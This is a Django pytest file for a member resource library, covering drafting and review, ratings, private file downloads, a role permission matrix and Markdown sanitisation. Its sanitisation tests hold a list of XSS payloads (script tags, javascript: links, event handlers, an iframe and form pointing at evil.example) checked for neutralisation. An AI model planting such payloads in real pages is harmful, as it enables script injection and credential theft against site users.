"""What people see on the resource pages: the guided form, drafts, My submissions, review, the
library page, uploads and downloads, who may do what, Markdown made safe, and the resources
shown on a meeting's page."""

import re
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path

import pytest
from django.conf import settings
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from resources import services
from resources.models import Kind, Rating, Resource, Status, Visibility
from tests.factories import MemberFactory, member_with_account, sector, topic
from tests.meetings.factories import MeetingFactory
from tests.resources.factories import (
    ALLOWED_FILES,
    ResourceFactory,
    coordinator_account,
    editor_account,
    titles,
    with_file,
)

pytestmark = pytest.mark.django_db

GUIDED = {
    "kind": "case_study",
    "title": "Search clinics for students",
    "summary": "Drop-in help with searching.",
    "context": "A busy library.",
    "actions": "Monthly clinics.",
    "impact": "Faster searches.",
    "lessons": "Start small.",
    "contact": "",
    "visibility": "public",
}


def test_guided_form_saves_a_draft_then_submits(client, django_capture_on_commit_callbacks):
    member = member_with_account()
    client.force_login(member.user)

    response = client.post(
        reverse("resources:create_guided"),
        {**GUIDED, "topics": [topic("outreach").pk], "action": "save"},
    )
    resource = Resource.objects.get()
    assert response["Location"] == reverse("resources:edit", args=[resource.pk])
    assert (resource.status, resource.author) == (Status.DRAFT, member)
    assert list(resource.topics.all()) == [topic("outreach")]

    response = client.post(
        reverse("resources:edit", args=[resource.pk]), {**GUIDED, "action": "submit"}
    )
    assert response["Location"] == reverse("resources:mine")
    resource.refresh_from_db()
    assert resource.status == Status.SUBMITTED
    page = client.get(reverse("resources:mine")).content.decode()
    assert "Search clinics for students" in page
    assert "Submitted for review" in page


def test_guided_form_errors_are_shown_beside_fields_and_in_the_summary(client):
    client.force_login(member_with_account().user)

    response = client.post(
        reverse("resources:create_guided"), {**GUIDED, "title": "  ", "action": "save"}
    )

    assert response.status_code == 400
    page = response.content.decode()
    assert 'href="#id_title"' in page
    assert "Enter a title." in page
    assert page.count("<h1") == 1
    assert Resource.objects.count() == 0


def test_link_needs_an_address_and_not_a_file_as_well(client):
    client.force_login(member_with_account().user)

    response = client.post(
        reverse("resources:create"),
        {"kind": "link", "title": "A link", "summary": "Somewhere.", "visibility": "public"},
    )

    assert response.status_code == 400
    assert "A link needs its address." in response.content.decode()


def test_author_sees_the_editors_comment_and_can_edit_again(
    client, django_capture_on_commit_callbacks
):
    author = member_with_account()
    editor = editor_account()
    resource = ResourceFactory(author=author, status=Status.SUBMITTED, title="My story")
    client.force_login(editor.user)

    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            reverse("resources:review", args=[resource.pk]),
            {"action": "request_changes", "comment": "Add a contact, please."},
        )

    assert response["Location"] == reverse("resources:review_queue")
    assert [m.to for m in mail.outbox] == [[author.email]]
    client.force_login(author.user)
    mine = client.get(reverse("resources:mine")).content.decode()
    assert "Changes requested" in mine
    assert "Add a contact, please." in mine
    assert client.get(reverse("resources:edit", args=[resource.pk])).status_code == 200


def test_request_changes_without_comment_is_refused_with_a_message(client):
    resource = ResourceFactory(status=Status.SUBMITTED)
    client.force_login(editor_account().user)

    response = client.post(
        reverse("resources:review", args=[resource.pk]),
        {"action": "request_changes", "comment": ""},
        follow=True,
    )

    assert "Say what the author should change." in response.content.decode()
    assert Resource.objects.get(pk=resource.pk).status == Status.SUBMITTED


def test_publishing_twice_is_refused_not_a_500(client):
    resource = ResourceFactory(status=Status.SUBMITTED)
    client.force_login(editor_account().user)
    url = reverse("resources:review", args=[resource.pk])

    client.post(url, {"action": "publish"})
    response = client.post(url, {"action": "publish"}, follow=True)

    assert response.status_code == 200
    assert "cannot be moved" in response.content.decode()


def test_review_queue_lists_submissions_oldest_first(client):
    first = ResourceFactory(status=Status.SUBMITTED, title="First in")
    ResourceFactory(status=Status.SUBMITTED, title="Second in")
    services_submitted = Resource.objects.filter(pk=first.pk)
    services_submitted.update(submitted_at="2020-01-01T00:00Z")
    client.force_login(editor_account().user)

    page = client.get(reverse("resources:review_queue")).content.decode()

    assert page.index("First in") < page.index("Second in")


def test_rating_again_changes_it(client):
    resource = ResourceFactory()
    member = member_with_account()
    client.force_login(member.user)
    url = reverse("resources:rate", args=[resource.pk])

    client.post(url, {"score": "2"})
    client.post(url, {"score": "5"})
    response = client.post(url, {"score": "9"}, follow=True)

    assert "Choose a rating from 1 to 5." in response.content.decode()
    assert list(Rating.objects.values_list("member", "score")) == [(member.pk, 5)]


def test_the_rating_field_shows_each_members_own_rating_checked(client):
    """The field is a cached fragment (templates/resources/detail.html): keyed by the rating."""
    resource = ResourceFactory()
    first, second = member_with_account(), member_with_account()

    def checked(member) -> list[str]:
        client.force_login(member.user)
        html = client.get(resource.get_absolute_url()).content.decode()
        return re.findall(r'<input type="radio"[^>]* name="score" value="(\d)"[^>]*checked', html)

    assert checked(first) == [] and checked(second) == []
    services.rating_set(resource=resource, member=first, score=4)
    assert checked(first) == ["4"]
    assert checked(second) == []
    services.rating_set(resource=resource, member=second, score=2)
    assert checked(second) == ["2"]
    assert checked(first) == ["4"]


def test_editor_features_a_resource_on_the_landing_page(client):
    resource = ResourceFactory(title="Star guide")
    client.force_login(editor_account().user)

    client.post(reverse("resources:feature", args=[resource.pk]), {"featured": "1"})

    assert Resource.objects.get(pk=resource.pk).featured
    client.logout()
    assert "Star guide" in client.get(reverse("home")).content.decode()


def test_edit_form_keeps_what_was_stored(client):
    member = member_with_account()
    resource = ResourceFactory(
        author=member, status=Status.DRAFT, visibility="public", kind="case_study"
    )
    client.force_login(member.user)

    form = client.get(reverse("resources:edit", args=[resource.pk])).context["form"]

    assert (form["visibility"].value(), form["kind"].value()) == ("public", "case_study")


# --- The library page ------------------------------------------------------------------------


def test_list_filters_by_kind_topic_and_sector(client):
    ResourceFactory(title="Health guide", sectors=[sector("health")], topics=[topic("edi")])
    ResourceFactory(title="School guide", sectors=[sector("school")], topics=[topic("edi")])
    ResourceFactory(title="Health story", kind=Kind.KM_STORY, sectors=[sector("health")])

    health = sector("health").pk
    assert sorted(titles(client, f"?sector={health}")) == ["Health guide", "Health story"]
    assert titles(client, f"?sector={health}&kind=guide") == ["Health guide"]
    assert sorted(titles(client, f"?topic={topic('edi').pk}")) == ["Health guide", "School guide"]


def test_list_unknown_filter_value_shows_an_error_not_everything(client):
    ResourceFactory()
    response = client.get(reverse("resources:list") + "?kind=virus")
    assert list(response.context["page"].object_list) == []
    assert "There is a problem" in response.content.decode()


def test_list_visitors_find_public_ones_members_find_all_nobody_finds_unpublished(client):
    ResourceFactory(title="Public")
    ResourceFactory(title="Members", visibility=Visibility.MEMBERS)
    ResourceFactory(title="Draft", status=Status.DRAFT)
    ResourceFactory(title="Archived", status=Status.ARCHIVED)

    assert titles(client) == ["Public"]
    client.force_login(member_with_account().user)
    assert sorted(titles(client)) == ["Members", "Public"]


def test_list_is_paginated(client):
    for _ in range(25):
        ResourceFactory()
    first = client.get(reverse("resources:list"))
    second = client.get(reverse("resources:list") + "?page=2")
    assert len(first.context["page"].object_list) == 20
    assert len(second.context["page"].object_list) == 5
    assert 'rel="next"' in first.content.decode()


# --- Uploads and downloads -------------------------------------------------------------------


def test_refused_upload_shows_errors_and_writes_nothing(client):
    member = member_with_account()
    client.force_login(member.user)

    response = client.post(
        reverse("resources:create"),
        {
            "kind": "report",
            "title": "Annual report",
            "summary": "Our year.",
            "visibility": "members",
            "file": SimpleUploadedFile("report.pdf", b"MZ\x90\x00" + b"\x00" * 64),
        },
    )

    assert response.status_code == 400
    page = response.content.decode()
    assert "There is a problem" in page  # the summary at the top, linking to the field
    assert 'href="#id_file"' in page
    assert "cannot be uploaded" in page
    assert Resource.objects.count() == 0
    private = Path(settings.PRIVATE_MEDIA_ROOT)
    assert not private.exists() or not any(p.is_file() for p in private.rglob("*"))


def test_upload_is_stored_privately_and_served_as_attachment(client):
    member = member_with_account()
    client.force_login(member.user)

    response = client.post(
        reverse("resources:create"),
        {
            "kind": "report",
            "title": "Annual report",
            "summary": "Our year.",
            "visibility": "members",
            "file": SimpleUploadedFile("Annual report.pdf", ALLOWED_FILES["report.pdf"]),
            "action": "save",
        },
    )

    resource = Resource.objects.get()
    assert response.status_code == 302
    assert resource.file_name == "Annual report.pdf"
    stored = Path(resource.file.path)
    assert stored.is_relative_to(Path(settings.PRIVATE_MEDIA_ROOT).resolve())
    assert not stored.is_relative_to(Path(settings.MEDIA_ROOT).resolve())
    assert "Annual" not in stored.name  # a random name on disk

    download = client.get(reverse("resources:download", args=[resource.pk]))
    assert download.status_code == 200
    assert download["Content-Disposition"] == 'attachment; filename="Annual report.pdf"'
    assert download["Content-Type"] == "application/pdf"
    assert download["X-Content-Type-Options"] == "nosniff"
    assert b"".join(download.streaming_content) == ALLOWED_FILES["report.pdf"]


def test_download_counts_published_only(client):
    member = member_with_account()
    resource = with_file(ResourceFactory(author=member))
    draft = with_file(ResourceFactory(author=member, status="draft"))
    client.force_login(member.user)

    client.get(reverse("resources:download", args=[resource.pk]))
    client.get(reverse("resources:download", args=[draft.pk]))

    resource.refresh_from_db()
    draft.refresh_from_db()
    assert (resource.download_count, draft.download_count) == (1, 0)


def test_a_head_request_counts_nothing(client):
    """Link checkers and mail scanners probe links with HEAD: refused, and not a download."""
    member = member_with_account()
    resource = with_file(ResourceFactory(author=member))
    linked = ResourceFactory(author=member, file="", url="https://example.org/guide")
    client.force_login(member.user)

    head = client.head(reverse("resources:download", args=[resource.pk]))
    sent_on = client.head(reverse("resources:download", args=[linked.pk]))

    assert (head.status_code, sent_on.status_code) == (405, 405)
    resource.refresh_from_db()
    linked.refresh_from_db()
    assert (resource.download_count, linked.download_count) == (0, 0)


# --- Who may do what -------------------------------------------------------------------------

# Every role against every action, through the pages people use. Refusals are a login redirect
# (visitors), a 403 with the reason, or a 404 where even saying that the resource exists would be
# too much (someone else's draft). A refused request writes nothing.


ROLES = ["visitor", "member", "author", "editor", "coordinator"]
OK, LOGIN, FORBIDDEN, NOT_FOUND = "ok", "login", "forbidden", "not found"


@dataclass
class World:
    actor: object  # the Member acting, or None for a visitor
    author: object
    public: Resource
    members_only: Resource
    draft: Resource
    submitted: Resource
    others: Resource


def build_world(role: str) -> World:
    author = member_with_account(full_name="Ann Author")
    actor = {
        "visitor": lambda: None,
        "member": member_with_account,
        "author": lambda: author,
        "editor": editor_account,
        "coordinator": coordinator_account,
    }[role]()
    other = MemberFactory()
    return World(
        actor=actor,
        author=author,
        public=ResourceFactory(author=author, visibility=Visibility.PUBLIC),
        members_only=with_file(ResourceFactory(author=author, visibility=Visibility.MEMBERS)),
        draft=ResourceFactory(author=author, status=Status.DRAFT, published_at=None),
        submitted=ResourceFactory(author=author, status=Status.SUBMITTED, published_at=None),
        others=ResourceFactory(author=other, visibility=Visibility.PUBLIC),
    )


def status_of(resource) -> str:
    return Resource.objects.values_list("status", flat=True).get(pk=resource.pk)


# Each action: (method, url from the world, POST data, what "it happened" means).
def _own_draft(world):
    if world.actor is None:
        return world.draft
    return ResourceFactory(author=world.actor, status=Status.DRAFT, published_at=None)


ACTIONS = {
    "view public": lambda w: ("get", w.public.get_absolute_url(), None, None),
    "view members-only": lambda w: ("get", w.members_only.get_absolute_url(), None, None),
    "download members-only file": lambda w: (
        "get",
        reverse("resources:download", args=[w.members_only.pk]),
        None,
        None,
    ),
    "create": lambda w: ("get", reverse("resources:create_guided"), None, None),
    "edit own": lambda w: ("get", reverse("resources:edit", args=[_own_draft(w).pk]), None, None),
    "edit other's": lambda w: ("get", reverse("resources:edit", args=[w.others.pk]), None, None),
    "submit": lambda w: (
        "post",
        reverse("resources:submit", args=[w.draft.pk]),
        {},
        lambda: status_of(w.draft) == Status.SUBMITTED,
    ),
    "review queue": lambda w: ("get", reverse("resources:review_queue"), None, None),
    "request changes": lambda w: (
        "post",
        reverse("resources:review", args=[w.submitted.pk]),
        {"action": "request_changes", "comment": "Please add numbers."},
        lambda: status_of(w.submitted) == Status.CHANGES_REQUESTED,
    ),
    "publish": lambda w: (
        "post",
        reverse("resources:review", args=[w.submitted.pk]),
        {"action": "publish"},
        lambda: status_of(w.submitted) == Status.PUBLISHED,
    ),
    "archive": lambda w: (
        "post",
        reverse("resources:review", args=[w.public.pk]),
        {"action": "archive"},
        lambda: status_of(w.public) == Status.ARCHIVED,
    ),
    "rate": lambda w: (
        "post",
        reverse("resources:rate", args=[w.public.pk]),
        {"score": "4"},
        lambda: Rating.objects.filter(resource=w.public).exists(),
    ),
}

# role: visitor, member, author, editor, coordinator
EXPECTED = {
    "view public": [OK, OK, OK, OK, OK],
    "view members-only": [LOGIN, OK, OK, OK, OK],
    "download members-only file": [LOGIN, OK, OK, OK, OK],
    "create": [LOGIN, OK, OK, OK, OK],
    "edit own": [LOGIN, OK, OK, OK, OK],
    "edit other's": [LOGIN, FORBIDDEN, FORBIDDEN, OK, FORBIDDEN],
    # Someone else's draft is not even confirmed to exist; editors do not submit for authors.
    "submit": [LOGIN, NOT_FOUND, OK, FORBIDDEN, NOT_FOUND],
    "review queue": [LOGIN, FORBIDDEN, FORBIDDEN, OK, FORBIDDEN],
    "request changes": [LOGIN, FORBIDDEN, FORBIDDEN, OK, FORBIDDEN],
    "publish": [LOGIN, FORBIDDEN, FORBIDDEN, OK, FORBIDDEN],
    "archive": [LOGIN, FORBIDDEN, FORBIDDEN, OK, FORBIDDEN],
    # Authors do not rate their own work.
    "rate": [LOGIN, OK, FORBIDDEN, OK, OK],
}
CASES = [
    pytest.param(action, role, EXPECTED[action][i], id=f"{role}-{action}")
    for action in ACTIONS
    for i, role in enumerate(ROLES)
]


@pytest.mark.parametrize(("action", "role", "expected"), CASES)
def test_permission_matrix(client, action, role, expected):
    world = build_world(role)
    if world.actor is not None:
        client.force_login(world.actor.user)
    method, url, data, happened = ACTIONS[action](world)

    response = getattr(client, method)(url, data or {})

    if expected == LOGIN:
        assert response.status_code == 302
        assert response["Location"].startswith(reverse("account_login"))
    elif expected == FORBIDDEN:
        assert response.status_code == 403
        assert "You can't do that here" in response.content.decode()
    elif expected == NOT_FOUND:
        assert response.status_code == 404
        assert "Page not found" in response.content.decode()
    elif method == "get":
        assert response.status_code == 200
    else:
        assert response.status_code == 302
        assert not response["Location"].startswith(reverse("account_login"))
    if happened is not None:
        assert happened() is (expected == OK)


def test_forbidden_edit_says_why(client):
    world = build_world("member")
    client.force_login(world.actor.user)

    response = client.get(reverse("resources:edit", args=[world.others.pk]))

    assert response.status_code == 403
    assert "only its author can, until it is submitted" in response.content.decode()


def test_visitor_gets_nothing_from_a_members_only_file(client):
    world = build_world("visitor")

    response = client.get(reverse("resources:download", args=[world.members_only.pk]))

    assert response.status_code == 302
    assert not response.has_header("Content-Disposition")
    world.members_only.refresh_from_db()
    assert world.members_only.download_count == 0


def test_unpublished_file_is_not_served_to_other_members(client):
    world = build_world("member")
    draft = with_file(world.draft)
    client.force_login(world.actor.user)

    response = client.get(reverse("resources:download", args=[draft.pk]))

    assert response.status_code == 404
    assert not response.has_header("Content-Disposition")
    assert "Page not found" in response.content.decode()


# --- Script in an author's Markdown is neutralised -------------------------------------------


PAYLOADS = [
    "<script>alert('x')</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "[click me](javascript:alert('x'))",
    "[click me](JaVaScRiPt:alert('x'))",
    "[click me](  javascript:alert('x'))",
    '<a href="javascript:alert(1)">link</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    "![img](x onerror=alert(1))",
    '<img src="x" onerror="alert(1)">',
    '<svg onload="alert(1)"></svg>',
    '<div onclick="alert(1)" onmouseover="alert(1)">hover</div>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<style>body{display:none}</style><p style="background:url(javascript:alert(1))">x</p>',
    '<form action="https://evil.example"><input name="password"></form>',
    "<details open ontoggle=alert(1)>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
]
DANGEROUS_TAGS = {"script", "iframe", "object", "embed", "style", "form", "input", "svg", "math"}


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__()
        self.problems = []

    def handle_starttag(self, tag, attrs):
        if tag in DANGEROUS_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name == "style":
                self.problems.append(f"{tag}[{name}]")
            if name in ("href", "src", "action") and value:
                scheme = value.strip().lower().split(":", 1)[0]
                if ":" in value and scheme not in ("http", "https", "mailto"):
                    self.problems.append(f"{tag}[{name}={value}]")


def problems_in(html: str) -> list[str]:
    """Tags, event handlers and URL schemes that could run script, found by parsing the HTML
    (a payload's words may survive as harmless text; only markup matters)."""
    collector = _Collector()
    collector.feed(html)
    return collector.problems


def section(page: str) -> str:
    start = page.index('class="resource-body"')
    return page[start : page.index("</section>", start)]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_markdown_payload_is_neutralised_on_the_page(client, payload):
    resource = ResourceFactory(body=f"Before\n\n{payload}\n\nAfter")

    page = client.get(resource.get_absolute_url()).content.decode()

    body = section(page)
    assert "Before" in body
    assert problems_in(body) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_in_a_guided_section_is_neutralised(client, payload):
    member = member_with_account()
    client.force_login(member.user)
    client.post(
        reverse("resources:create_guided"),
        {
            "kind": "case_study",
            "title": "A case study",
            "summary": "Short.",
            "context": payload,
            "actions": "We did things.",
            "visibility": "public",
            "action": "save",
        },
    )
    resource = Resource.objects.get()
    client.force_login(editor_account().user)

    page = client.get(resource.get_absolute_url()).content.decode()

    body = section(page)
    # An unclosed <style> may swallow the text after it: lost, but never run.
    assert "<h2>Context</h2>" in body
    assert problems_in(body) == []


def test_title_and_summary_are_escaped(client):
    resource = ResourceFactory(title="<script>alert(1)</script>", summary="<b onclick=x>hi</b>")

    page = client.get(resource.get_absolute_url()).content.decode()

    assert "<script>alert(1)" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "<b onclick" not in page


def test_the_checker_finds_what_it_looks_for():
    assert problems_in('<a href="javascript:x" onclick="y">a</a><script></script>') == [
        "a[href=javascript:x]",
        "a[onclick]",
        "<script>",
    ]


def test_safe_markdown_still_renders(client):
    resource = ResourceFactory(body="**bold** and [a link](https://example.org)\n\n- one\n- two")

    body = section(client.get(resource.get_absolute_url()).content.decode())

    assert "<strong>bold</strong>" in body
    assert '<a href="https://example.org" rel="noopener noreferrer">a link</a>' in body
    assert "<li>one</li>" in body


# --- A meeting's page lists its resources ----------------------------------------------------


@pytest.mark.parametrize("logged_in", [False, True], ids=["visitor", "member"])
def test_meeting_page_shows_its_notes_and_slides(client, logged_in):
    if logged_in:
        client.force_login(member_with_account().user)
    meeting = MeetingFactory()
    ResourceFactory(meeting=meeting, kind=Kind.MEETING_NOTES, title="Notes of the day")
    for i in range(10):
        ResourceFactory(meeting=meeting, kind=Kind.SLIDES, title=f"Slides {i}")
    ResourceFactory(meeting=meeting, kind=Kind.SLIDES, title="Members slides", visibility="members")
    ResourceFactory(meeting=meeting, kind=Kind.SLIDES, title="Draft slides", status="draft")

    page = client.get(meeting.get_absolute_url()).content.decode()

    assert "Notes of the day" in page
    assert "Slides 9" in page
    assert "Draft slides" not in page
    assert ("Members slides" in page) is logged_in
